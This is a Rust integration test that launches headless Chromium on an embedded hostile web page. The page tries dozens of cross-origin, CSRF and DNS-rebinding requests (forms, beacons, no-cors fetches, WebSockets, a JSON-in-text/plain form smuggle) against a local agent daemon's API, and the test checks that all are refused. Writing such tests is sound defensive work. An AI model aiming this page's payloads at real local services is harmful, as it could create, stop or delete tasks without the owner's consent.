//! A hostile page in a real browser: it tries everything that a page can send, from another port, another name of
//! this machine, and a name that is made to resolve to this machine. It reads nothing and starts nothing.

#![expect(clippy::expect_used, reason = "a test that cannot prepare itself has failed")]

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::{TcpListener, TcpStream},
    os::unix::process::CommandExt,
    path::PathBuf,
    process::{Command, Stdio},
    sync::{Arc, Mutex, mpsc},
    time::Duration,
};

use serde_json::{Value, json};

use crate::common::{
    Sandbox,
    daemon::{Daemon, agents, until},
    fake,
    processes::Cleanup,
    tools::lacks,
};

/// Maximum time for the browser to show its first page.
const START: Duration = Duration::from_mins(5);
/// Maximum time to wait for the report of a page.
const PATIENCE: Duration = Duration::from_mins(4);

/// Tries everything against `base` and reports the results. A successful attempt reports the text that it has read.
const PAGE: &str = r#"<!doctype html><meta charset=utf-8><title>attack</title><body><script>
const base = new URLSearchParams(location.search).get('base');
const run = new URLSearchParams(location.search).get('run');
// A try that is to work may take its time; one that is not to is over when nothing comes of it for a while.
const patience = Number(new URLSearchParams(location.search).get('patience'));
const task = JSON.stringify({project_id: 'p', task_id: 'evil', agent_type: 'quick', prompt: 'x'});
const out = {};
const within = (ms, promise) => Promise.race([promise, new Promise(r => setTimeout(() => r('silence'), ms))]);
async function attempt(name, doIt) {
  try { out[name] = String(await within(patience, doIt())); } catch (e) { out[name] = 'refused: ' + e.name; }
}
const read = async (path, init) => { const r = await fetch(base + path, init); return 'read ' + r.status + ': ' + (await r.text()).slice(0, 200); };
const blind = async (path, init) => { const r = await fetch(base + path, {mode: 'no-cors', ...init}); return 'blind: ' + r.type; };
const element = (tag, set) => new Promise(resolve => {
  const e = document.createElement(tag);
  e.onload = () => resolve('loaded'); e.onerror = () => resolve('refused');
  set(e); document.body.append(e);
});
const form = (path, enctype, name, value) => new Promise(resolve => {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
  const form = document.createElement('form');
  form.method = 'POST'; form.action = base + path; form.enctype = enctype; form.target = frame.name;
  const input = document.createElement('input'); input.name = name; input.value = value; form.append(input);
  document.body.append(form);
  form.submit();
  setTimeout(() => { let seen = 'nothing'; try { seen = frame.contentDocument.body.innerText || seen; } catch (e) {} resolve('sent, saw: ' + seen.slice(0, 100)); }, 1500);
});
(async () => {
  const file = `/api/projects/p/tasks/t/runs/${run}/file?name=output.md&format=raw`;
  await attempt('get', () => read('/api/v1/tasks'));
  await attempt('get file', () => read(file));
  await attempt('get blind', () => blind('/api/v1/tasks'));
  await attempt('post json', () => read('/api/v1/tasks', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: task}));
  await attempt('post text', () => read('/api/v1/tasks', {method: 'POST', headers: {'Content-Type': 'text/plain'}, body: task}));
  await attempt('post text blind', () => blind('/api/v1/tasks', {method: 'POST', headers: {'Content-Type': 'text/plain'}, body: task}));
  await attempt('post form blind', () => blind('/api/v1/tasks', {method: 'POST', body: new URLSearchParams({x: task})}));
  await attempt('post blob blind', () => blind('/api/v1/tasks', {method: 'POST', body: new Blob([task])}));
  await attempt('post json blob blind', () => blind('/api/v1/tasks', {method: 'POST', body: new Blob([task], {type: 'application/json'})}));
  await attempt('post keepalive', () => blind('/api/v1/tasks', {method: 'POST', keepalive: true, body: new Blob([task])}));
  await attempt('beacon', async () => 'queued: ' + navigator.sendBeacon(base + '/api/v1/tasks', new Blob([task])));
  await attempt('stop', () => blind(`/api/v1/runs/${run}/stop`, {method: 'POST'}));
  await attempt('stop task', () => blind(`/api/projects/p/tasks/waits/runs/${run}/stop`, {method: 'POST'}));
  await attempt('delete', () => read('/api/projects/p/tasks/t', {method: 'DELETE'}));
  await attempt('cancel', () => read('/api/v1/tasks/waits?project_id=p', {method: 'DELETE'}));
  await attempt('gc', () => blind('/api/projects/p/gc?older_than=0s', {method: 'POST'}));
  await attempt('code', () => blind('/api/v1/auth/codes', {method: 'POST'}));
  await attempt('form text', () => form('/api/v1/tasks', 'text/plain', task.slice(0, -1) + ',"x":"', '"}'));
  await attempt('form multipart', () => form('/api/v1/tasks', 'multipart/form-data', 'x', task));
  await attempt('form urlencoded', () => form('/api/v1/tasks', 'application/x-www-form-urlencoded', 'x', task));
  await attempt('event source', () => new Promise(resolve => {
    const s = new EventSource(base + '/api/v1/runs/stream/all');
    s.onopen = () => resolve('read: open'); s.onmessage = e => resolve('read: ' + e.data); s.onerror = () => { s.close(); resolve('refused'); };
  }));
  await attempt('web socket', () => new Promise(resolve => {
    const s = new WebSocket(base.replace('http', 'ws') + '/api/v1/runs/stream/all');
    s.onopen = () => resolve('read: open'); s.onerror = () => resolve('refused');
  }));
  await attempt('image', () => element('img', e => { e.src = base + file; }));
  await attempt('script', () => element('script', e => { e.src = base + file; }));
  await attempt('style', () => element('link', e => { e.rel = 'stylesheet'; e.href = base + file; }));
  await attempt('module', () => import(base + '/api/v1/tasks').then(() => 'read: module'));
  await attempt('object', () => element('object', e => { e.data = base + file; }));
  await attempt('frame', () => new Promise(resolve => {
    const f = document.createElement('iframe'); f.src = base + file; document.body.append(f);
    setTimeout(() => { let seen = 'nothing'; try { seen = f.contentDocument.body.innerText || seen; } catch (e) {} resolve('framed, saw: ' + seen); }, 1500);
  }));
  await attempt('worker', () => new Promise(resolve => {
    const w = new Worker(base + file); w.onerror = () => resolve('refused'); setTimeout(() => resolve('silence'), 2000);
  }));
  const next = await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
  location.href = await next.text();
})();
</script>"#;

fn chromium() -> Option<PathBuf> {
    let places = ["/usr/bin/chromium", "/usr/bin/chromium-browser"];
    places.iter().map(PathBuf::from).find(|path| path.exists())
}

/// A page that waits until the site names the first address to visit.
const FIRST: &str = "<!doctype html><meta charset=utf-8><script>\
    fetch('/first', {method: 'POST'}).then(r => r.text()).then(url => { location.href = url; });</script>";

/// A foreign site on a port of its own: it serves the page and receives the page's reports.
struct Site {
    port: u16,
    reports: mpsc::Receiver<String>,
    addresses: mpsc::Sender<String>,
}

impl Site {
    fn open() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a port");
        let port = listener.local_addr().expect("its address").port();
        let (told, reports) = mpsc::channel();
        let (addresses, next) = mpsc::channel();
        let browser = Arc::new(Mutex::new((told, next)));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let browser = browser.clone();
                std::thread::spawn(move || {
                    let _ = answer(stream, &browser);
                });
            }
        });
        Self { port, reports, addresses }
    }

    /// Sends the browser to an address and takes the report of the page.
    fn visit(&self, url: &str) -> Value {
        self.addresses.send(url.to_owned()).expect("the site is there");
        let report =
            self.reports.recv_timeout(PATIENCE).unwrap_or_else(|e| panic!("no report of {url}: {e}"));
        serde_json::from_str(&report).expect("JSON")
    }
}

fn answer(
    mut stream: TcpStream,
    browser: &Mutex<(mpsc::Sender<String>, mpsc::Receiver<String>)>,
) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let (mut first, mut length) = (String::new(), 0);
    reader.read_line(&mut first)?;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 || line == "\r\n" {
            break;
        }
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    let text = if first.starts_with("POST /report") || first.starts_with("POST /first") {
        let browser = browser.lock().expect("one page at a time");
        // The first page sends an empty report, which says that the browser is ready.
        let _ = browser.0.send(String::from_utf8_lossy(&body).into_owned());
        browser.1.recv().unwrap_or_default()
    } else if first.starts_with("GET /?") {
        PAGE.to_owned()
    } else if first.starts_with("GET /first") {
        FIRST.to_owned()
    } else {
        String::new()
    };
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n";
    write!(stream, "{head}Content-Length: {}\r\n\r\n{text}", text.len())
}

/// A browser that shows one address until it is ended.
struct Browser(std::process::Child);

impl Browser {
    /// Starts the browser and waits until it has shown its first page.
    fn open(chromium: &PathBuf, sandbox: &Sandbox, site: &Site) -> Self {
        let profile = format!("--user-data-dir={}", sandbox.path("browser").display());
        let url = format!("http://127.0.0.1:{}/first", site.port);
        let log = sandbox.path("browser.log");
        let child = Command::new(chromium)
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
            ])
            .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
            .args(["--host-resolver-rules=MAP rebound.example 127.0.0.1", "--remote-debugging-port=0"])
            .args([&profile, &url])
            .env_clear()
            .env("HOME", sandbox.path("browser"))
            .env("PATH", "/usr/bin:/bin")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).expect("the log of the browser"))
            .process_group(0)
            .spawn()
            .expect("the browser starts");
        let browser = Self(child);
        site.reports.recv_timeout(START).unwrap_or_else(|e| {
            let said = std::fs::read(&log).unwrap_or_default();
            panic!("the browser shows no page: {e}\n{}", String::from_utf8_lossy(&said))
        });
        browser
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // The browser leads a process group of its own, which contains its helpers.
        let group = nix::unistd::Pid::from_raw(i32::try_from(self.0.id()).expect("a pid"));
        let _ = nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL);
        let _ = self.0.wait();
    }
}

#[test]
fn heavy_a_page_that_is_visited_reads_nothing_and_starts_nothing() {
    let Some(chromium) = chromium() else {
        return lacks("Chromium in /usr/bin", "apt-get install chromium");
    };
    let site = Site::open();
    let sandbox = Sandbox::new();
    let _cleanup = Cleanup::of(&format!("HOME={}", sandbox.home().display()));
    let friend = format!("http://127.0.0.1:{}", site.port);
    let steps: [(&str, &[&str]); 3] = [
        ("quick", &["say:<script>document.title='ran'</script>", "done"]),
        ("waits", &["say:ready", "sleep:120000"]),
        ("other", &["done"]),
    ];
    agents(&sandbox, &fake::agent(), &steps, "");
    let daemon = Daemon::start(&sandbox, &[]);
    let run = daemon.create("t", "quick");
    daemon.until_task("t", "completed");
    let waiting = daemon.create("waits", "waits");
    until("it is told that it runs", || {
        daemon.get("/api/projects/p/tasks/waits/messages").body.contains("RUN_START")
    });
    let pages = [
        // Another port, under either name, and a foreign name that resolves to this machine.
        (format!("127.0.0.1:{}", site.port), format!("http://127.0.0.1:{}", daemon.port), &run),
        (format!("localhost:{}", site.port), format!("http://127.0.0.1:{}", daemon.port), &waiting),
        (format!("127.0.0.1:{}", site.port), format!("http://localhost:{}", daemon.port), &waiting),
        (format!("rebound.example:{}", site.port), format!("http://rebound.example:{}", daemon.port), &run),
        (format!("rebound.example:{}", site.port), format!("http://127.0.0.1:{}", daemon.port), &run),
    ];
    let visit = |from: &str, base: &str, run: &str, patience: Duration| -> Value {
        let patience = patience.as_millis();
        site.visit(&format!("http://{from}/?base={base}&run={run}&patience={patience}"))
    };
    let _browser = Browser::open(&chromium, &sandbox, &site);
    let before = state(&daemon);
    for (from, base, run) in &pages {
        let report = visit(from, base, run, Duration::from_secs(8));
        let report = report.as_object().expect("outcomes");
        assert!(report.len() >= 29, "{report:?}");
        for (attempt, outcome) in report {
            let outcome = outcome.as_str().unwrap_or_default();
            // An effect that a page cannot see is allowed here; its result is checked below.
            let read_nothing = [
                "refused",
                "blind: opaque",
                "sent, saw: nothing",
                "framed, saw: nothing",
                "queued: true",
                "silence",
            ];
            let nothing = read_nothing.iter().any(|known| outcome.starts_with(known));
            assert!(nothing, "{from} to {base}: {attempt}: {outcome}");
        }
        for attempt in
            ["get", "get file", "post json", "event source", "web socket", "image", "script", "style"]
        {
            assert!(
                report[attempt].as_str().is_some_and(|o| o.starts_with("refused")),
                "{attempt}: {report:?}"
            );
        }
        assert_eq!(state(&daemon), before, "{from} to {base} has changed something: {report:?}");
    }
    assert!(!sandbox.root().join("p/evil").exists());
    drop(daemon);

    // The same page succeeds if its origin is listed, so the page itself works.
    agents(&sandbox, &fake::agent(), &steps, &format!("api: {{cors_origins: ['{friend}']}}\n"));
    let daemon = Daemon::start(&sandbox, &[]);
    let base = format!("http://127.0.0.1:{}", daemon.port);
    let report = visit(&friend["http://".len()..], &base, &run, Duration::from_secs(30));
    assert!(report["get"].as_str().is_some_and(|o| o.starts_with("read 200")), "{report}");
    assert!(report["post json"].as_str().is_some_and(|o| o.starts_with("read 201")), "{report}");
    assert_eq!(report["event source"], "read: open", "{report}");
    assert!(report["delete"].as_str().is_some_and(|o| o.starts_with("read 403")), "{report}");
    assert!(sandbox.root().join("p/evil").exists());
}

/// The state: tasks and runs with their status, and the number of messages.
fn state(daemon: &Daemon) -> Value {
    let short = |list: &Value, key: &str| -> Vec<Value> {
        let list = list.as_array().expect("a list");
        list.iter().map(|entry| json!([entry[key], entry["status"]])).collect()
    };
    let (tasks, runs) = (daemon.get("/api/v1/tasks").json(), daemon.get("/api/v1/runs").json());
    let messages = daemon.get("/api/projects/p/messages?scope=all").json();
    json!([
        short(&tasks["tasks"], "task_id"),
        short(&runs["runs"], "run_id"),
        messages["messages"].as_array().map(Vec::len)
    ])
}
